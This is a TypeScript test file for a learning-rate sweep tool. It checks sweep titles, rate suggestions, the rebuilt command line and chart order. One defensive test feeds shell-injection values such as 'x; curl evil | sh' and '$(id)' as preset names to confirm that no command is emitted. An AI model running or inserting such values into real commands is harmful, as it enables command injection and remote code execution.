import assert from 'node:assert/strict';
import type { ExperimentRecord, RunOverview } from '../../../src/domain/experiment.ts';
import { MEASURES } from '../../../src/domain/measure.ts';
import type { Measure } from '../../../src/domain/measure.ts';
import { PRESETS, RIDING_THE_CURVE, SLOW_FAST_FURIOUS } from '../../../src/domain/presets.ts';
import { parseSchedule } from '../../../src/domain/scheduleText.ts';
import { variantId } from '../../../src/domain/variant.ts';
import type { Description } from '../../../src/kinds/kind.ts';
import { presetChoice } from '../../../src/kinds/sweep/choice.ts';
import type { SweepChoice } from '../../../src/kinds/sweep/choice.ts';
import { sweepCommand } from '../../../src/kinds/sweep/command.ts';
import { describeSweep } from '../../../src/kinds/sweep/description.ts';
import { sweepFigures } from '../../../src/kinds/sweep/figures.ts';
import { summarizeSweep } from '../../../src/kinds/sweep/summary.ts';
import { finishedRun, line, sweepOf } from '../../support/runs.ts';

const THREE = [
  finishedRun(0, 0.1, [2.3, ...Array<number>(99).fill(2.31)]),
  finishedRun(1, 0.01, line(2.3, 0.1, 100)),
  finishedRun(2, 0.0001, line(2.3, 1, 100)),
];

function describeRuns(
  runs: readonly RunOverview[],
  record: Partial<ExperimentRecord> = {},
  isRunning = false,
): Description {
  const experiment = sweepOf(runs, record);
  return describeSweep(experiment, summarizeSweep(experiment), isRunning);
}

const underWay = (run: RunOverview): RunOverview => ({ ...run, state: 'running', result: null });

describe('the title of a sweep', () => {
  const titles: [string, Partial<ExperimentRecord>, string][] = [
    ['that of its preset', { preset: SLOW_FAST_FURIOUS.name, name: SLOW_FAST_FURIOUS.name }, 'Slow, Fast, or Furious'],
    [
      'the name of a preset that this version does not know',
      { preset: 'of-tomorrow', name: 'of-tomorrow' },
      'of-tomorrow',
    ],
    ['its own name', { name: 'warm-up or not' }, 'warm-up or not'],
    ['its optimizer and its rates, where it has no name', { name: 'sweep' }, 'Adam at 0.1, 0.01, 1e-4'],
    ['the same where it was named by its rates', { name: '0.1, 0.01, 1e-4' }, 'Adam at 0.1, 0.01, 1e-4'],
    [
      'its optimizer and its rates, where it has only the name of the preset that it was made from',
      { name: SLOW_FAST_FURIOUS.name },
      'Adam at 0.1, 0.01, 1e-4',
    ],
  ];
  for (const [what, record, title] of titles) {
    it(`is ${what}`, () => assert.equal(describeRuns(THREE, record).title, title));
  }
});

describe('describeSweep', () => {
  it('says what was trained, and how much of it', () => {
    const { subject, amounts } = describeRuns(THREE);
    assert.equal(subject, 'MNIST CNN with Adam, batch 64');
    assert.deepEqual(amounts, ['10,000 training images', '3 epochs', '3 rates']);
  });

  it('answers with the suggested rate and the zone', () => {
    const { answer, outcome } = describeRuns(THREE);
    assert.equal(outcome, 'best at 0.01');
    assert.deepEqual(answer, {
      title: 'Suggested learning rate',
      value: '0.01',
      detail: 'Goldilocks zone: 0.01',
    });
  });

  it('answers with the best so far while it runs, and waits for the first result', () => {
    const [furious, fast, slow] = THREE;
    const some = describeRuns([furious, fast, underWay(slow)], {}, true);
    assert.deepEqual([some.answer.title, some.answer.value, some.notes], ['Best so far', '0.01', []]);
    const none = describeRuns(THREE.map(underWay), {}, true);
    assert.deepEqual([none.answer.value, none.outcome], [null, null]);
    assert.match(none.answer.detail, /when the first runs finish/);
  });

  it('marks a best rate at an end of those tried as not bracketed, while it runs too', () => {
    const [furious, fast, slow] = THREE;
    assert.equal(describeRuns([fast, slow]).answer.detail, 'Goldilocks zone: 0.01 · not bracketed: try higher rates');
    const lowest = describeRuns([furious, fast, underWay(finishedRun(2, 0.2, line(2.3, 1, 100)))], {}, true);
    assert.equal(lowest.answer.detail, 'Goldilocks zone: 0.01 · not bracketed: try lower rates');
    assert.equal(describeRuns([fast, underWay(slow), furious], {}, true).answer.detail, 'Goldilocks zone: 0.01');
  });

  it('suggests no rate at which another seed failed, and says so', () => {
    const runs = [
      THREE[0],
      THREE[1],
      finishedRun(2, 0.01, line(2.3, 2.2, 100), 2),
      finishedRun(3, 0.01, line(2.3, 0.1, 100), 3),
    ];
    const { answer, outcome, scales } = describeRuns(runs);
    assert.deepEqual([answer.title, answer.value, outcome], ['No reliable rate', null, 'no reliable rate']);
    assert.match(answer.detail, /such as 0.01, at least one seed did much worse/);
    assert.equal(scales[0].chosen, null);
  });

  it('does not say that rates have not learned enough before any has finished', () => {
    const detail = (state: RunOverview['state']): string =>
      describeRuns(
        [{ ...THREE[0], state, result: state === 'finished' ? THREE[0].result : null }, underWay(THREE[2])],
        {},
        true,
      ).answer.detail;
    assert.match(detail('cancelled'), /when the first runs finish/);
    assert.match(detail('failed'), /when the first runs finish/);
    assert.match(detail('finished'), /has learned enough/);
  });

  it('suggests nothing for good while results are missing, whatever the reason', () => {
    const [furious, fast, slow] = THREE;
    for (const state of ['cancelled', 'interrupted', 'failed'] as const) {
      const { answer, scales } = describeRuns([furious, fast, { ...underWay(slow), state }]);
      assert.deepEqual([answer.title, answer.value], ['Best so far', '0.01']);
      assert.deepEqual(
        scales[0].entries.map(({ assessment }) => assessment),
        ['not known', 'good so far', 'too high'],
      );
    }
  });

  it('says why there is no answer', () => {
    const nothing = describeRuns([THREE[0]]);
    assert.deepEqual([nothing.answer.title, nothing.outcome], ['No suggested rate', 'no suitable rate']);
    const cut = describeRuns([{ ...underWay(THREE[0]), state: 'interrupted' }]);
    assert.deepEqual([cut.answer.detail, cut.outcome], ['Too few runs finished.', null]);
  });

  it('draws a scale with a word for each rate, and none for those not known yet', () => {
    const [furious, fast, slow] = THREE;
    const [scale, ...more] = describeRuns([furious, fast, underWay(slow)], {}, true).scales;
    assert.deepEqual(more, []);
    assert.deepEqual(
      scale.entries.map(({ label, assessment, known }) => [label, assessment, known]),
      [
        ['1e-4', 'not known yet', false],
        ['0.01', 'good so far', true],
        ['0.1', 'too high', true],
      ],
    );
    const [whole] = describeRuns(THREE).scales;
    assert.deepEqual([whole.entries[1].assessment, whole.zone.label], ['just right', 'just right']);
    assert.deepEqual([scale.chosen, scale.zone.low, scale.zone.high, scale.label], [0.01, 0.01, 0.01, '']);
  });

  it('names the scales where two engines have one each', () => {
    const both = THREE.flatMap((run) => {
      const values = { rate: run.spec!.learningRate, engine: 'tensorflow' } as const;
      return [run, { ...run, variant: variantId(values), spec: { ...run.spec!, engine: values.engine } }];
    }).map((run, index) => ({ ...run, index }));
    const { scales } = describeRuns(both);
    assert.deepEqual(
      scales.map(({ label, entries }) => [label, entries.length]),
      [
        ['wasm', 3],
        ['tensorflow', 3],
      ],
    );
  });
});

describe('the command of a sweep', () => {
  for (const preset of PRESETS) {
    it(`names the preset ${preset.name} where nothing was changed`, () => {
      assert.equal(sweepCommand(presetChoice(preset)), `goldilocks sweep --preset ${preset.name} --seeds 1`);
    });
  }

  it('writes out everything else', () => {
    const choice = {
      ...presetChoice(RIDING_THE_CURVE),
      preset: null,
      schedule: parseSchedule('cosine,warmup=5%'),
      clip: 1,
      seeds: 3,
      secondEngine: 'tensorflow',
      dataset: { name: 'fashion', folder: '/home/someone/fashion', train: 100, test: 50 },
    } as const;
    assert.equal(
      sweepCommand(choice),
      'goldilocks sweep --preset riding-the-curve --rates 0.0001,0.001,0.01 --optimizer adam --clip 1 --batch 32 --train 100 --dataset DIR --schedule cosine,warmup=5% --epochs 5 --test 50 --seeds 3 --engine both',
    );
  });

  it('tells whether runs are stopped early', () => {
    const preset = { ...presetChoice(SLOW_FAST_FURIOUS), prune: true } as const;
    assert.equal(sweepCommand(preset), `goldilocks sweep --preset ${preset.preset} --seeds 1 --prune`);
    assert.match(sweepCommand({ ...preset, preset: null })!, / --seeds 1 --engine wasm --prune$/);
  });

  it('stands in for a network of the user’s own', () => {
    const choice = presetChoice(SLOW_FAST_FURIOUS);
    const network = { ...choice.network, hidden: [32] };
    assert.match(sweepCommand({ ...choice, preset: null, network })!, / --network FILE\.json /);
  });

  it('is left out where a shell would run a part of it, which a sweep on disk may have been written for', () => {
    for (const preset of ['x; curl evil | sh', '$(id)', '`id`', "'", 'a b', 'a\nb', 'a&b'])
      assert.equal(sweepCommand({ ...presetChoice(SLOW_FAST_FURIOUS), preset }), null);
  });
});

describe('the figures of a sweep', () => {
  it('have one order, while it trains and when it is opened again', () => {
    const orderOf = (runs: readonly RunOverview[]): string[] => {
      const sweep = sweepOf(runs);
      return sweepFigures(sweep, summarizeSweep(sweep)).map(({ name }) => name);
    };
    const order = ['finalLossByRate', 'lossByStep', 'lossByEpoch', 'accuracyByEpoch'];
    assert.deepEqual([orderOf(THREE.map(underWay)), orderOf(THREE)], [order, order]);
  });

  it('end with a chart of each measure that was asked for and that the network has', () => {
    const added = (choice: Partial<SweepChoice>): string[] => {
      const sweep = sweepOf(THREE, { choice: { ...presetChoice(SLOW_FAST_FURIOUS), ...choice } });
      return sweepFigures(sweep, summarizeSweep(sweep))
        .slice(4)
        .map(({ name }) => name);
    };
    const linear = { ...SLOW_FAST_FURIOUS.network, blocks: [], hidden: [] };
    assert.deepEqual(added({}), []);
    assert.deepEqual(added({ measures: ['dead-share', 'gradient-norm'] }), ['gradientNormByStep', 'deadShareByStep']);
    assert.deepEqual(added({ measures: MEASURES, network: linear }), ['gradientNormByStep', 'updateRatioByStep']);
    assert.deepEqual(added({ measures: ['of-tomorrow' as Measure] }), []);
  });
});
